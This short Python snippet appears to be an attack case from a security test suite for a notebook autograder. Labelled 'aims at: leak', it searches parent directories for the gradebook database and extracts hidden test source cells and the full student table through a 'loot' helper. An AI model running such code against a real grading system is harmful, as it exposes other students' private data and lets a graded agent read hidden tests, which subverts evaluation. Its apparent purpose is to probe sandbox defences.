# idea: The gradebook is read: hidden tests, names of others.
# aims at: leak
# %% before t01
#@ground
import sqlite3

for path in [GROUND / "gradebook.db", *pathlib.Path("../../..").glob("*.db")]:
    if path.is_file():
        try:
            book = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=1)
            loot(book.execute("SELECT source FROM source_cell").fetchall())
            loot(book.execute("SELECT * FROM student").fetchall())
        except sqlite3.Error as error:
            print(error)
